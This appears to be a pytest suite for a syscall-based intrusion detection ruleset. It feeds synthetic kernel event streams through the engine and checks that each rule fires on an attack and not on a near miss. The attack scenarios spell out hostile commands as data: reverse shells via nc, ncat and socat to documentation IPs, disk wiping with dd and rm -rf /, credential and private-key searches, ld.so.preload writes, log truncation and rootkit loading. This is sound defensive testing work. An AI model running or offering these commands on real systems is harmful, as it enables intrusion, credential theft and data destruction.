"""The shipped `rules/syscall.yaml`: it loads cleanly, and every rule fires on a synthetic kernel record stream and
stays quiet on its near miss."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import yaml

from agent.alert import Alert
from agent.engine.engine import Engine
from agent.event import Event
from sources.kernel.state import ProcessSnapshot
from tests.sources.kernel.state_fixtures import CONTAINER_ID, Stream, extract, inet, snapshot
from tests.support.rules_harness import loaded_engine, rule_names

ROOT = Path(__file__).resolve().parents[2]
RULES_FILE = ROOT / "rules" / "syscall.yaml"
SOURCE = "syscall"
PREFIX = "sys_"

O_WRONLY, O_RDWR, O_CREAT, O_TRUNC, O_APPEND = 0o1, 0o2, 0o100, 0o1000, 0o2000
AF_INET, AF_INET6, AF_PACKET, SOCK_STREAM, SOCK_RAW = 2, 10, 17, 1, 3
PTRACE_TRACEME, PTRACE_PEEKDATA, PTRACE_POKEDATA, PTRACE_ATTACH, PTRACE_SEIZE = 0, 2, 5, 16, 0x4206
AT_FDCWD = -100
HOST_SHELL, CONTAINER_INIT = 200, 300   # alice's bash on the host (tty) and the container's sh (no tty)
CONTAINER_EXEC = 320                    # a runc exec of the container with a terminal (see _stream)
PRIORITIES = {"CRITICAL", "ERROR", "WARNING", "NOTICE"}

Scenario = Callable[[Stream], None]


@pytest.fixture(scope="module")
def engine() -> Engine:
    return loaded_engine(RULES_FILE, clean=True)


def _stream(*later: ProcessSnapshot) -> Stream:
    """The fake host of the kernel state tests, plus a `runc` exec process with a terminal in its container."""
    s = Stream(seed=False)
    s.host.snapshots.append(snapshot(CONTAINER_EXEC, 1, "runc", exepath="/usr/bin/runc", container_id=CONTAINER_ID,
                                     tty=34817, vpid=12))
    for snap in later:
        s.host.later[snap.pid] = snap
    s.state.seed()
    s.state.learn_container(s.host.containers[CONTAINER_ID])
    return s


def _alerts(engine: Engine, events: list[Event], rule: str) -> list[tuple[Event, Alert]]:
    return [(event, alert) for event in events for alert in engine.process(event) if alert.rule == rule]


# Scenario builders: each runs a record sequence on a stream; the test evaluates every event of it.
def run(parent: int, path: str, *argv: str, comm: str | None = None) -> Scenario:
    def scenario(s: Stream) -> None:
        s.spawn(parent, 410, path, *argv, comm=comm)

    return scenario


def open_file(parent: int, exe: str, path: str, *, flags: int = 0, res: int = 3) -> Scenario:
    def scenario(s: Stream) -> None:
        s.spawn(parent, 410, exe)
        s.open(410, path, flags=flags, res=res)

    return scenario


def below(ancestor: str, exe: str, path: str, *, flags: int) -> Scenario:
    """`ancestor` (started by init) runs a shell that runs `exe`, which opens `path`."""
    def scenario(s: Stream) -> None:
        s.spawn(1, 400, f"/usr/bin/{ancestor}")
        s.spawn(400, 401, "/bin/sh", "-c", exe)
        s.spawn(401, 410, exe)
        s.open(410, path, flags=flags)

    return scenario


def server_spawns(server: str, child: str, *argv: str, via: str = "") -> Scenario:
    def scenario(s: Stream) -> None:
        s.spawn(1, 400, f"/usr/sbin/{server}")
        parent = 400
        if via:
            s.spawn(400, 401, f"/usr/sbin/{via}")
            parent = 401
        s.spawn(parent, 410, child, *argv)

    return scenario


def record(type_: str, tid: int = HOST_SHELL, *, res: int = 0, **args: Any) -> Scenario:
    def scenario(s: Stream) -> None:
        s.record(type_, tid, res=res, **args)

    return scenario


def ptrace(tracer: str, request: int, *, traceme_child: bool = False) -> Scenario:
    def scenario(s: Stream) -> None:
        s.spawn(HOST_SHELL, 410, f"/usr/bin/{tracer}", "-p", "100")
        if traceme_child:    # gdb's forked child asks to be traced before it execs the program
            s.fork(410, 411)
            s.record("ptrace", 411, request=request, pid=0, addr=0, data=0)
        else:
            s.record("ptrace", 410, request=request, pid=100, addr=0, data=0)

    return scenario


def memfd_exec(memfd_name: str, comm: str) -> Scenario:
    def scenario(s: Stream) -> None:
        s.fork(HOST_SHELL, 410)
        s.record("memfd_create", 410, res=5, name=memfd_name, flags=1)
        s.exec(410, "/proc/self/fd/5", comm=comm)

    return scenario


def reverse_shell(parent: int, *, family: int = AF_INET, newfd: int = 0) -> Scenario:
    def scenario(s: Stream) -> None:
        s.spawn(parent, 410, "/usr/bin/python3", "-c", "import socket,os,pty")
        s.record("socket", 410, res=3, domain=family, type=SOCK_STREAM, proto=0)
        if family == AF_INET:
            s.record("connect", 410, fd=3, addr=inet("203.0.113.9", 4444), local_addr=inet("172.17.0.2", 40000))
        else:
            s.record("connect", 410, fd=3, addr=inet("2001:db8::9", 4444), local_addr=inet("2001:db8::2", 40000))
        s.record("dup2", 410, res=newfd, oldfd=3, newfd=newfd)

    return scenario


def redirect_to_file(s: Stream) -> None:
    s.spawn(HOST_SHELL, 410, "/usr/bin/python3")
    s.open(410, "/tmp/out.log", flags=O_WRONLY | O_CREAT, res=3)
    s.record("dup2", 410, res=1, oldfd=3, newfd=1)


def socket_activated(s: Stream) -> None:
    s.record("socket", 1, res=3, domain=AF_INET, type=SOCK_STREAM, proto=0)
    s.record("connect", 1, fd=3, addr=inet("198.51.100.7", 5000), local_addr=inet("192.0.2.1", 41000))
    s.record("dup2", 1, res=0, oldfd=3, newfd=0)


def packet_socket(parent: int, exe: str, *, domain: int = AF_PACKET) -> Scenario:
    def scenario(s: Stream) -> None:
        s.spawn(parent, 410, exe, "-i", "eth0")
        s.record("socket", 410, res=4, domain=domain, type=SOCK_RAW, proto=768)

    return scenario


def traversal(parent_exe: str, raw_path: str, *, res: int = 3) -> Scenario:
    def scenario(s: Stream) -> None:
        s.spawn(1, 400, parent_exe)
        s.record("chdir", 400, path="/var/www/html")
        s.spawn(400, 410, "/usr/bin/php-cgi")
        s.open(410, raw_path, res=res)

    return scenario


def module_syscall(exe: str, *, parent: int = HOST_SHELL) -> Scenario:
    def scenario(s: Stream) -> None:
        s.spawn(parent, 410, exe)
        s.open(410, "/tmp/.r/rootkit.ko", res=3)
        s.record("finit_module", 410, res=0, fd=3, flags=0)

    return scenario


def modprobe_by_kernel(s: Stream) -> None:
    s.host.later[2] = snapshot(2, 0, "kthreadd")
    s.spawn(1, 2, "/sbin/kthreadd", comm="kthreadd")
    s.spawn(2, 410, "/sbin/modprobe", "-q", "--", "net-pf-17")


def drift(upper: bool) -> Scenario:
    def scenario(s: Stream) -> None:
        s.host.later[410] = snapshot(410, CONTAINER_INIT, "xmrig", exepath="/tmp/xmrig",
                                           container_id=CONTAINER_ID, exe_upper_layer=upper,
                                           exe_lower_layer=not upper)
        s.spawn(CONTAINER_INIT, 410, "/tmp/xmrig", "-o", "pool:3333")

    return scenario


def shell_from(parent: int, *, nested: bool = False) -> Scenario:
    def scenario(s: Stream) -> None:
        s.spawn(parent, 410, "/bin/bash")
        if nested:
            s.spawn(410, 411, "/bin/sh")

    return scenario


def nested_terminal_shell(s: Stream) -> None:
    """The second shell of a `kubectl exec -it ... bash`, started by the first: only the first is reported."""
    s.spawn(CONTAINER_EXEC, 410, "/bin/bash")
    s.spawn(410, 411, "/bin/sh")


# (rule, attack, near miss, output fields the alert must carry, number of alerts on the attack)
CASES: list[tuple[str, Scenario, Scenario, dict[str, Any], int]] = [
    ("Sensitive File Read By Unexpected Program", open_file(HOST_SHELL, "/usr/bin/cat", "/etc/shadow"),
     open_file(HOST_SHELL, "/usr/sbin/unix_chkpwd", "/etc/shadow"),
     {"fd.name": "/etc/shadow", "proc.name": "cat", "proc.pname": "bash", "user.name": "alice",
      "proc.aname[2]": "sshd", "proc.tty": 34816, "user.loginuid": 1000}, 1),
    ("Sensitive File Read By Unexpected Program", open_file(HOST_SHELL, "/usr/bin/python3", "/etc/pam.d/common-auth"),
     open_file(HOST_SHELL, "/usr/bin/python3", "/etc/pam.conf.d/x"),
     {"fd.name": "/etc/pam.d/common-auth", "proc.exepath": "/usr/bin/python3"}, 1),
    ("Sensitive File Read By Unexpected Program",
     open_file(CONTAINER_INIT, "/bin/cat", "/etc/ssh/ssh_host_ed25519_key"),
     open_file(CONTAINER_INIT, "/bin/cat", "/etc/ssh/ssh_host_ed25519_key.pub"),
     {"fd.name": "/etc/ssh/ssh_host_ed25519_key", "container.id": CONTAINER_ID[:12],
      "container.image.repository": "docker.io/library/nginx"}, 1),
    ("Sensitive File Read By Unexpected Program", open_file(HOST_SHELL, "/usr/bin/cat", "/etc/sudoers"),
     below("dpkg", "/usr/bin/cat", "/etc/sudoers", flags=0), {"fd.name": "/etc/sudoers"}, 1),
    ("Link To Sensitive File Created",
     record("symlinkat", target="/etc/shadow", linkdirfd=AT_FDCWD, linkpath="/var/www/html/s.txt"),
     record("symlinkat", target="/etc/hostname", linkdirfd=AT_FDCWD, linkpath="/var/www/html/s.txt"),
     {"evt.arg.target": "/etc/shadow", "evt.arg.linkpath": "/var/www/html/s.txt", "evt.type": "symlinkat"}, 1),
    ("Link To Sensitive File Created",
     record("linkat", olddir=AT_FDCWD, oldpath="/etc/sudoers.d/90-cloud", newdir=AT_FDCWD, newpath="/tmp/y",
            flags=0),
     record("linkat", res=-1, olddir=AT_FDCWD, oldpath="/etc/sudoers.d/90-cloud", newdir=AT_FDCWD,
            newpath="/tmp/y", flags=0),
     {"evt.arg.oldpath": "/etc/sudoers.d/90-cloud", "evt.arg.newpath": "/tmp/y", "evt.res": "SUCCESS"}, 1),
    ("Path Traversal To Sensitive Directory", traversal("/usr/sbin/nginx", "../../../etc/passwd"),
     traversal("/usr/bin/bash", "../../../etc/passwd"),
     {"fd.name": "/etc/passwd", "fd.nameraw": "../../../etc/passwd", "proc.pname": "nginx",
      "proc.cwd": "/var/www/html/"}, 1),
    ("Path Traversal To Sensitive Directory",
     traversal("/usr/sbin/httpd", "/var/www/html/../../../root/.ssh/id_rsa", res=-2),
     traversal("/usr/sbin/httpd", "/var/www/html/../static/logo.png"),
     {"fd.name": "/root/.ssh/id_rsa", "evt.res": "ENOENT"}, 1),
    ("Private Key Or Cloud Credential Search", run(HOST_SHELL, "/usr/bin/grep", "-rl", "BEGIN RSA PRIVATE", "/"),
     run(HOST_SHELL, "/usr/bin/grep", "-r", "TODO", "."),
     {"proc.name": "grep", "proc.cmdline": "grep -rl BEGIN RSA PRIVATE /", "proc.cwd": "/home/alice/"}, 1),
    ("Private Key Or Cloud Credential Search", run(CONTAINER_INIT, "/usr/bin/find", "/", "-name", "id_ed25519*"),
     run(CONTAINER_INIT, "/usr/bin/cat", "/root/.ssh/id_ed25519"), {"proc.name": "find"}, 1),
    ("Private Key Or Cloud Credential Search",
     run(HOST_SHELL, "/usr/bin/rg", "-i", "aws_secret_access_key", "/home"),
     run(HOST_SHELL, "/usr/bin/rg", "-i", "aws_region", "/home"), {"proc.name": "rg"}, 1),
    ("Process Attached With Ptrace", ptrace("gdb", PTRACE_ATTACH), ptrace("gdb", PTRACE_PEEKDATA),
     {"evt.arg.request": "PTRACE_ATTACH", "evt.rawarg.pid": 100, "evt.arg.pid": "sshd", "proc.name": "gdb"}, 1),
    ("Process Attached With Ptrace", ptrace("python3", PTRACE_POKEDATA), ptrace("python3", PTRACE_TRACEME),
     {"evt.arg.request": "PTRACE_POKEDATA"}, 1),
    ("Process Attached With Ptrace", ptrace("strace", PTRACE_SEIZE), ptrace("strace", PTRACE_PEEKDATA),
     {"evt.arg.request": "PTRACE_SEIZE"}, 1),
    ("Ptrace Anti-Debugging Attempt", ptrace("packed", PTRACE_TRACEME),
     ptrace("gdb", PTRACE_TRACEME, traceme_child=True), {"evt.arg.request": "PTRACE_TRACEME", "proc.name": "packed"},
     1),
    ("Shell Spawned By Server Process", server_spawns("nginx", "/bin/sh", "-c", "id"),
     server_spawns("sshd", "/bin/sh", "-c", "id"),
     {"proc.pname": "nginx", "proc.pexepath": "/usr/sbin/nginx", "proc.cmdline": "sh -c id",
      "evt.arg.flags": "0"}, 1),
    ("Shell Spawned By Server Process", server_spawns("httpd", "/bin/bash", "-i", via="php-cgi"),
     server_spawns("httpd", "/usr/bin/convert", "in.png", "out.jpg", via="php-cgi"),
     {"proc.pname": "php-cgi", "proc.aname[2]": "httpd"}, 1),
    ("Shell Spawned By Server Process", server_spawns("postgres", "/bin/bash", "-c", "cat /etc/passwd"),
     server_spawns("postgres", "/bin/sh", "-c", "uname -s 2>&1"), {"proc.pname": "postgres"}, 1),
    ("Program Run From Shared Memory", run(HOST_SHELL, "/dev/shm/.x/kworker", "--pool"),
     run(HOST_SHELL, "/usr/bin/ls", "/dev/shm"),
     {"proc.exepath": "/dev/shm/.x/kworker", "evt.res": "SUCCESS", "proc.pname": "bash"}, 1),
    ("Program Run From Shared Memory", run(CONTAINER_INIT, "/run/lock/.s"),
     run(CONTAINER_INIT, "/run/locker/s"), {"proc.exepath": "/run/lock/.s"}, 1),
    ("Fileless Program Executed From Memfd", memfd_exec("payload", "5"),
     memfd_exec("runc_cloned:/proc/self/exe", "runc"),
     {"proc.exepath": "memfd:payload", "proc.is_exe_from_memfd": True, "evt.arg.flags": "EXE_FROM_MEMFD"}, 1),
    ("Container Drift Executed", drift(True), drift(False),
     {"proc.exepath": "/tmp/xmrig", "evt.arg.flags": "EXE_UPPER_LAYER", "container.name": "web",
      "k8s.ns.name": "prod", "k8s.pod.name": "web-0"}, 1),
    ("Terminal Shell In Container", shell_from(CONTAINER_EXEC), shell_from(CONTAINER_INIT),
     {"proc.tty": 34817, "proc.pname": "runc", "container.id": CONTAINER_ID[:12], "proc.name": "bash"}, 1),
    ("Terminal Shell In Container", nested_terminal_shell, shell_from(HOST_SHELL), {"proc.cmdline": "bash"}, 1),
    ("Standard Stream Redirected To Network", reverse_shell(CONTAINER_INIT), redirect_to_file,
     {"fd.name": "172.17.0.2:40000->203.0.113.9:4444", "fd.rip": "203.0.113.9", "fd.rport": 4444,
      "fd.type": "ipv4", "fd.l4proto": "tcp", "evt.rawres": 0, "container.id": CONTAINER_ID[:12]}, 1),
    ("Standard Stream Redirected To Network", reverse_shell(HOST_SHELL, family=AF_INET6, newfd=2),
     socket_activated, {"fd.type": "ipv6", "evt.rawres": 2, "container.id": "host"}, 1),
    ("Network Relay Runs Program", run(CONTAINER_INIT, "/usr/bin/nc", "-e", "/bin/sh", "198.51.100.4", "4444"),
     run(CONTAINER_INIT, "/usr/bin/nc", "-l", "-p", "8080"), {"proc.name": "nc", "container.name": "web"}, 1),
    ("Network Relay Runs Program", run(HOST_SHELL, "/usr/bin/ncat", "198.51.100.4", "443", "--sh-exec", "bash"),
     run(HOST_SHELL, "/usr/bin/ncat", "-v", "example.com", "443"),
     {"proc.cmdline": "ncat 198.51.100.4 443 --sh-exec bash"}, 1),
    ("Network Relay Runs Program",
     run(HOST_SHELL, "/usr/bin/socat", "TCP:198.51.100.4:443", "EXEC:/bin/bash,pty,stderr"),
     run(HOST_SHELL, "/usr/bin/socat", "TCP-LISTEN:8080,fork", "TCP:10.0.0.5:80"), {"proc.name": "socat"}, 1),
    ("Packet Socket Opened", packet_socket(CONTAINER_INIT, "/usr/sbin/tcpdump"),
     packet_socket(CONTAINER_INIT, "/usr/sbin/tcpdump", domain=AF_INET),
     {"evt.arg.domain": "AF_PACKET", "container.id": CONTAINER_ID[:12], "proc.name": "tcpdump"}, 1),
    ("Packet Socket Opened", packet_socket(HOST_SHELL, "/usr/local/bin/arpspoof"),
     packet_socket(1, "/usr/sbin/dhclient"), {"evt.arg.domain": "AF_PACKET", "container.id": "host"}, 1),
    ("File Written Below Etc", open_file(HOST_SHELL, "/usr/bin/tee", "/etc/ld.so.preload", flags=O_WRONLY | O_CREAT),
     open_file(HOST_SHELL, "/usr/bin/cat", "/etc/ld.so.preload"),
     {"fd.name": "/etc/ld.so.preload", "evt.arg.flags": "O_CREAT|O_WRONLY", "evt.is_open_write": True}, 1),
    ("File Written Below Etc", open_file(CONTAINER_INIT, "/bin/sh", "/etc/cron.d/x", flags=O_RDWR),
     below("dpkg", "/usr/bin/sed", "/etc/cron.d/x", flags=O_RDWR), {"fd.name": "/etc/cron.d/x"}, 1),
    ("File Written Below Etc", open_file(HOST_SHELL, "/usr/bin/vi", "/etc/passwd", flags=O_WRONLY | O_TRUNC),
     open_file(HOST_SHELL, "/usr/sbin/useradd", "/etc/passwd", flags=O_WRONLY | O_TRUNC),
     {"proc.name": "vi"}, 1),
    ("Binary Directory Modified", open_file(HOST_SHELL, "/usr/bin/cp", "/usr/bin/sudo", flags=O_WRONLY | O_TRUNC),
     below("apt-get", "/usr/bin/cp", "/usr/bin/sudo", flags=O_WRONLY | O_TRUNC),
     {"fd.name": "/usr/bin/sudo", "evt.type": "openat", "proc.name": "cp"}, 1),
    ("Binary Directory Modified",
     record("renameat2", olddirfd=AT_FDCWD, oldpath="/tmp/ls", newdirfd=AT_FDCWD, newpath="/bin/ls", flags=0),
     record("renameat2", olddirfd=AT_FDCWD, oldpath="/tmp/ls", newdirfd=AT_FDCWD, newpath="/binaries/ls", flags=0),
     {"evt.arg.newpath": "/bin/ls", "evt.type": "renameat2"}, 1),
    ("Binary Directory Modified",
     record("symlinkat", target="/tmp/x", linkdirfd=AT_FDCWD, linkpath="/usr/local/sbin/iptables"),
     record("symlinkat", target="/usr/local/sbin/iptables", linkdirfd=AT_FDCWD, linkpath="/tmp/x"),
     {"evt.arg.linkpath": "/usr/local/sbin/iptables"}, 1),
    ("Binary Directory Modified", record("mkdir", path="/usr/sbin/.hidden", mode=0o755),
     record("mkdir", path="/usr/share/.hidden", mode=0o755), {"evt.arg.path": "/usr/sbin/.hidden"}, 1),
    ("Binary Directory Modified", record("link", oldpath="/tmp/x", newpath="/usr/local/bin/x"),
     open_file(HOST_SHELL, "/usr/bin/pip3", "/usr/local/bin/flask", flags=O_WRONLY | O_CREAT),
     {"evt.arg.newpath": "/usr/local/bin/x"}, 1),
    ("Log File Truncated", open_file(HOST_SHELL, "/bin/bash", "/var/log/auth.log", flags=O_WRONLY | O_TRUNC),
     open_file(HOST_SHELL, "/bin/bash", "/var/log/auth.log", flags=O_WRONLY | O_APPEND),
     {"fd.name": "/var/log/auth.log", "evt.arg.flags": "O_TRUNC|O_WRONLY"}, 1),
    ("Log File Truncated", record("creat", res=3, name="/var/log/wtmp", mode=0o644),
     open_file(1, "/usr/sbin/logrotate", "/var/log/syslog", flags=O_WRONLY | O_CREAT | O_TRUNC),
     {"fd.name": "/var/log/wtmp", "evt.type": "creat"}, 1),
    ("Data Destruction Command", run(HOST_SHELL, "/usr/bin/shred", "-uz", "/var/lib/db/data"),
     run(HOST_SHELL, "/usr/bin/rm", "-rf", "/tmp/build"), {"proc.name": "shred", "proc.args": "-uz /var/lib/db/data"},
     1),
    ("Data Destruction Command", run(HOST_SHELL, "/usr/bin/dd", "if=/dev/zero", "of=/dev/sda", "bs=1M"),
     run(HOST_SHELL, "/usr/bin/dd", "if=/dev/zero", "of=/tmp/swap", "bs=1M"), {"proc.name": "dd"}, 1),
    ("Data Destruction Command", run(CONTAINER_INIT, "/bin/rm", "-rf", "--no-preserve-root", "/"),
     run(CONTAINER_INIT, "/bin/rm", "-rf", "/var/cache/apt"), {"container.name": "web"}, 1),
    ("Kernel Module Loaded", run(CONTAINER_INIT, "/sbin/insmod", "/tmp/r.ko"), modprobe_by_kernel,
     {"proc.cmdline": "insmod /tmp/r.ko", "evt.type": "execve", "container.id": CONTAINER_ID[:12]}, 1),
    ("Kernel Module Loaded", module_syscall("/tmp/.r/loader"), module_syscall("/usr/lib/systemd/systemd-udevd"),
     {"evt.type": "finit_module", "fd.name": "/tmp/.r/rootkit.ko", "proc.name": "loader"}, 1),
]


@pytest.mark.parametrize(("rule", "attack", "near_miss", "fields", "count"), CASES,
                         ids=[f"{c[0]}-{i}" for i, c in enumerate(CASES)])
def test_rule_fires_on_attack_and_stays_quiet_on_near_miss(engine: Engine, rule: str, attack: Scenario,
                                                            near_miss: Scenario, fields: dict[str, Any],
                                                            count: int) -> None:
    """Each rule fires on its attack stream, with the expected values in its fields, and not on its near miss."""
    s = _stream()
    attack(s)
    fired = _alerts(engine, s.events, rule)
    assert len(fired) == count, [a.output for _, a in fired]
    event, alert = fired[0]
    for name, expected in fields.items():
        value = alert.output_fields[name] if name in alert.output_fields else extract(event, name)
        assert str(value).lower() == str(expected).lower(), name
    quiet = _stream()
    near_miss(quiet)
    assert not _alerts(engine, quiet.events, rule)


class TestRulesFile:
    @staticmethod
    def items() -> list[dict[str, Any]]:
        return [item for item in yaml.safe_load(RULES_FILE.read_text()) if isinstance(item, dict)]

    def test_every_rule_is_of_the_source(self, engine: Engine) -> None:
        """Every loaded rule belongs to the syscall source, so none is silently skipped."""
        assert {rule.source for rule in engine.rules} == {SOURCE}
        assert len(engine.rules) == len(rule_names(RULES_FILE))

    def test_every_rule_has_a_case(self) -> None:
        """Adding a rule without an attack and near-miss case here (or keeping a case for a removed rule) fails."""
        assert {case[0] for case in CASES} == set(rule_names(RULES_FILE))

    def test_every_rule_names_its_event_types(self, engine: Engine) -> None:
        """Every rule is indexed by event type, so the kernel source only captures what the rules need."""
        ruleset = engine.ruleset(SOURCE)
        assert ruleset is not None
        indexed = ruleset.index_values("evt.type")
        assert indexed is not None and indexed

    def test_every_rule_has_mitre_tags_and_a_known_priority(self, engine: Engine) -> None:
        """Every rule has a MITRE technique id, a mitre_<tactic> tag and one of the priorities the README lists."""
        for rule in engine.rules:
            assert any(tag.startswith("T1") for tag in rule.tags), rule.name
            assert any(tag.startswith("mitre_") for tag in rule.tags), rule.name
        for item in self.items():
            if "rule" in item:
                assert item["priority"] in PRIORITIES, item["rule"]

    def test_every_rule_has_empty_exceptions(self) -> None:
        """Every rule ships structured exceptions without values, for users to append to."""
        for item in self.items():
            if "rule" in item:
                assert item.get("exceptions"), item["rule"]
                assert all("values" not in exc and exc["fields"] for exc in item["exceptions"]), item["rule"]

    def test_macros_and_lists_carry_the_file_prefix(self) -> None:
        """Macros and lists start with sys_, so they never collide with upstream or local names."""
        for item in self.items():
            name = item.get("macro") or item.get("list")
            if name is not None:
                assert name.startswith(PREFIX), name


class TestSideBySide:
    def test_loads_with_the_other_shipped_files_and_upstream_rules(self, reference: Path) -> None:
        """The whole rules/ folder plus the upstream falco_rules.yaml loads without an error."""
        files = sorted((ROOT / "rules").glob("*.yaml"))
        loaded_engine(*files, reference / "rules" / "falco_rules.yaml")


class TestTuning:
    def test_appended_exception_values_silence_only_their_tuple(self, tmp_path: Path) -> None:
        """A (program, file) pair appended from a local file silences exactly that pair."""
        local = tmp_path / "local.yaml"
        local.write_text(
            "- rule: Sensitive File Read By Unexpected Program\n"
            "  exceptions:\n"
            "    - name: program_and_file\n"
            "      values:\n"
            "        - [cat, /etc/sudoers]\n"
            "  override:\n"
            "    exceptions: append\n"
            "- list: sys_shell_binaries\n"
            "  items: [python3]\n"
            "  override:\n"
            "    items: append\n")
        tuned = loaded_engine(RULES_FILE, local, clean=True)
        rule = "Sensitive File Read By Unexpected Program"
        for path, expected in (("/etc/sudoers", 0), ("/etc/shadow", 1)):
            s = _stream()
            open_file(HOST_SHELL, "/usr/bin/cat", path)(s)
            assert len(_alerts(tuned, s.events, rule)) == expected, path
        s = _stream()
        server_spawns("nginx", "/usr/bin/python3", "-c", "x")(s)
        assert len(_alerts(tuned, s.events, "Shell Spawned By Server Process")) == 1
